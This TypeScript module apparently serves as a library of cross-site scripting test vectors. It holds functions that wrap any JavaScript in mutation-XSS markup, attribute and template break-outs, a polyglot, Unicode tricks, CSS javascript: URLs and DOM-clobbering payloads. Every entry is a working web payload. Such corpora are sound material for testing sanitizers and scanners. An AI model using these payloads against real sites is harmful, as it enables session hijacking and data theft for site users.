import { cssEscapes, hexEntities } from './encodings.ts';
import type { Vector } from './vectors.ts';

/** Parsed differently by different parsers: malformed tags, foreign namespaces, raw text. */
export const MUTATIONS: readonly Vector[] = [
  (js) => `<math><mtext></p><style><img src=x onerror=${js}></style></mtext></math>`,
  (js) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  (js) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${js}></style></annotation-xml></math>`,
  (js) => `<svg><foreignObject><style><img src=x onerror=${js}></style></foreignObject></svg>`,
  (js) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  (js) => `<svg><style><img src=x onerror=${js}></style></svg>`,
  (js) => `<svg><desc><noscript><p title="</noscript><img src=x onerror=${js}>"></desc></svg>`,
  (js) => `<svg><title><p id="</title><img src=x onerror=${js}>"></svg>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  (js) => `<noembed><p title="</noembed><img src=x onerror=${js}>">`,
  (js) => `<noframes><p title="</noframes><img src=x onerror=${js}>">`,
  (js) => `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
  (js) => `<iframe><p title="</iframe><img src=x onerror=${js}>">`,
  (js) => `<textarea><p title="</textarea><img src=x onerror=${js}>">`,
  (js) => `<title><p title="</title><img src=x onerror=${js}>">`,
  (js) => `<template><p title="</template><img src=x onerror=${js}>">`,
  (js) => `<style><p title="</style><img src=x onerror=${js}>">`,
  (js) =>
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${js}>">`,
  (js) => `<select><option><style></option></select><img src=x onerror=${js}></style>`,
  (js) => `<table><td><svg><style><img src=x onerror=${js}></style></svg></td></table>`,
  (js) => `<p><table><p><img src=x onerror=${js}></table>`,
  (js) => `<plaintext><img src=x onerror=${js}>`,
  (js) => `<listing>&lt;img src=x onerror=${js}&gt;</listing>`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<!--!><img src=x onerror=${js}>-->`,
  (js) => `<!-- --!><img src=x onerror=${js}>-->`,
  (js) => `<!-><img src=x onerror=${js}>`,
  (js) => `<![CDATA[><img src=x onerror=${js}>]]>`,
  (js) => `<svg><![CDATA[</svg><img src=x onerror=${js}>]]>`,
  (js) => `<!--[if gte IE 4]><script>${js}</script><![endif]-->`,
  (js) => `<?xml version="1.0"?><?php <img src=x onerror=${js}> ?>`,
  (js) => `<? foo="><script>${js}</script>">`,
  (js) => `<! foo="><script>${js}</script>">`,
  (js) => `</ foo="><script>${js}</script>">`,
  (js) => `<% foo><x foo="%><script>${js}</script>">`,
  (js) => `<!doctype html [<!ENTITY x "<script>${js}</script>">]>&x;`,
  (js) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
  (js) => `<img src="x\u0000" onerror=${js}>`,
  (js) => `<im\u0000g src=x onerror=${js}>`,
  (js) => `<a title="&quot;><img src=x onerror=${js}>">t</a>`,
  (js) => `<a title='"&gt;&lt;img src=x onerror=${js}&gt;'>t</a>`,
  (js) => `<p title="\`><img src=x onerror=${js}>">`,
  (js) => `<p id="x" id="</p><img src=x onerror=${js}>">twice</p>`,
  (js) => `&lt;img src=x onerror=${js}&gt;`,
  (js) => `&amp;lt;img src=x onerror=${js}&amp;gt;`,
  (js) => `%3Cimg%20src=x%20onerror=${js}%3E`,
  (js) => `\\x3cimg src=x onerror=${js}\\x3e \\u003cscript\\u003e${js}`,
  (js) =>
    `<pre><code class="language-html">&lt;img src=x onerror=${js}&gt;&lt;script&gt;${js}&lt;/script&gt;</code></pre>`,
  (js) => `<pre><code class="language-js&quot;><img src=x onerror=${js}>">x</code></pre>`,
  (js) =>
    `<h2>A heading &lt;img src=x onerror=${js}&gt;</h2><h2 id='"><img src=x onerror=${js}>'>b</h2>`,
  (js) =>
    `<img src="/uploads/00000000000000000000000000000000-9x9-200.png&quot; onerror=&quot;${js}">`,
  (js) => `<img alt='" onerror="${js}' src=x title='"><script>${js}</script>'>`,
  (js) => `<div style="width:expression(${js})">css</div>`,
  (js) => `<div style="background:url(javascript:${js})">css</div>`,
  (js) => `<div style="background:url(&#1;javascript:${js})">css</div>`,
  (js) => `<div style="background-image:${cssEscapes(`url(javascript:${js})`)}">css</div>`,
  (js) => `<div style="behavior:url(x.htc);-moz-binding:url(x.xml#${js})">css</div>`,
  (js) => `<style>@import 'javascript:${js}';</style>`,
  (js) => `<style>li{list-style-image:url("javascript:${js}")}</style><ul><li>css`,
  (js) => `<style type="text/javascript">${js}</style>`,
  (js) => `<style></style><img src=x onerror=${js}><style></style>`,
];

/** Breaks out of its context: a title, an attribute, a script, a template. */
export const BREAK_OUTS: readonly Vector[] = [
  (js) => `</title><script>${js}</script>`,
  (js) => `</title></head><body onload=${js}>`,
  (js) => `"><script>${js}</script>`,
  (js) => `'><script>${js}</script>`,
  (js) => `" onmouseover="${js}" x="`,
  (js) => `' autofocus onfocus='${js}' x='`,
  (js) => `" onerror="${js}" src="x`,
  (js) => `"/><img src=x onerror=${js}>`,
  (js) => `--><script>${js}</script><!--`,
  (js) => `]]><script xmlns="http://www.w3.org/1999/xhtml">${js}</script><![CDATA[`,
  (js) => `</script><script>${js}</script>`,
  (js) => `</SCRIPT ><svg onload=${js}>`,
  (js) => `<!--<script>${js}//</script>`,
  (js) => `<!--<script></script><script>${js}</script>-->`,
  (js) => `";${js};//`,
  (js) => `';${js};//`,
  (js) => `\\";${js};//`,
  (js) => `\u2028${js}\u2029`,
  (js) => `\${${js}}`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `{{$on.constructor('${js}')()}}<p ng-app ng-csp>{{${js}}}</p>`,
  (js) => `<%= ${js} %>#{${js}}`,
  (js) => `<p v-html="'<img src=x onerror=${js}>'" :onclick="${js}">v</p>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</style><script>${js}</script>`,
  (js) => `</article></main></body></html><script>${js}</script>`,
  (js) =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${js} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${js}//>\\x3e`,
  (js) =>
    `'">><marquee><img src=x onerror=${js}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${js}>`,
  (js) => `\`"'><img src='#\u0027 onerror=${js}>`,
  (js) => `\u2039script\u203a${js}\u2039/script\u203a \uff1cscript\uff1e${js}\uff1c/script\uff1e`,
  (js) => `<\u0131mg src=x onerror=${js}><\u017fcript>${js}</\u017fcript>`,
  (js) => `<a href="\u202ejavascript:${js}">\u202e</a>`,
  (js) => hexEntities(`<img src=x onerror=${js}>`),
];

/** DOM clobbering. */
export const CLOBBERING: readonly Vector[] = [
  (js) => `<form id=document><input name=cookie value="${js}"></form>`,
  (js) =>
    `<a id=__reactRouterContext></a><a id=__reactRouterContext name=url href="javascript:${js}">c</a>`,
  (js) =>
    `<img name=body><img name=getElementById><form name=forms id=location><a id=href href="javascript:${js}">c</a></form>`,
  (js) =>
    `<a id=defaultView href="javascript:${js}">c</a><iframe name=self srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<object id=window><param name=__proto__ value="${js}"></object><p id=__proto__>p</p>`,
];
